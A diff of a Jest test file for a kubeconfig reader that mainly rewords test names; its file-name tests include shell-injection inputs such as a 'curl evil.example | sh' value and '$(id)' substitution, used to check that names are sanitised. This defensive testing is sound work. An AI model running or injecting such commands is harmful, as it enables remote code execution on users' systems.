@@ -22,7 +22,7 @@ users: []
 `
 
 describe('readKubeconfig', () => {
-  it('lists the contexts with server and user, and which one is current', () => {
+  it('lists the contexts with server and user, and marks the current one', () => {
     expect(read(config)).toEqual({
       current: 'b',
       contexts: [
@@ -32,7 +32,7 @@ describe('readKubeconfig', () => {
     })
   })
 
-  it('takes the first context where none is current', () => {
+  it('selects the first context if none is current', () => {
     expect(read(config.replace('current-context: b', ''))).toMatchObject({ current: 'a' })
   })
 
@@ -40,22 +40,25 @@ describe('readKubeconfig', () => {
     expect(read('clusters:\n- name: one\n  cluster: {')).toMatchObject({ problem: 'notYaml', line: 3 })
   })
 
-  it.each(['', 'hello', '- 1', 'kind: Pod', 'contexts: 5'])('refuses %j, which is no kubeconfig', (text) => {
-    expect(read(text)).toEqual({ problem: 'notKubeconfig' })
-  })
+  it.each(['', 'hello', '- 1', 'kind: Pod', 'contexts: 5'])(
+    'rejects %j, which is not a kubeconfig',
+    (text) => {
+      expect(read(text)).toEqual({ problem: 'notKubeconfig' })
+    },
+  )
 
-  it('refuses what is too large without parsing it', () => {
+  it('rejects oversized text without parsing it', () => {
     expect(read('a'.repeat(1024 * 1024 + 1))).toEqual({ problem: 'tooLarge' })
   })
 })
 
-describe('the file of a kubeconfig', () => {
+describe('the file name of a kubeconfig', () => {
   it.each([
     ['hafen-süd.1', 'hafen-süd.1.kubeconfig'],
     ['two words', 'two-words.kubeconfig'],
     ['x; curl evil.example | sh #', 'x-curl-evil.example-sh-.kubeconfig'],
     ['$(id)`id`"\n\'/..', '-id-id-...kubeconfig'],
-  ])('of %s is one word to any shell', (name, file) => {
+  ])('of %s is a single word in any shell', (name, file) => {
     expect(kubeconfigFile(name)).toBe(file)
   })
 })
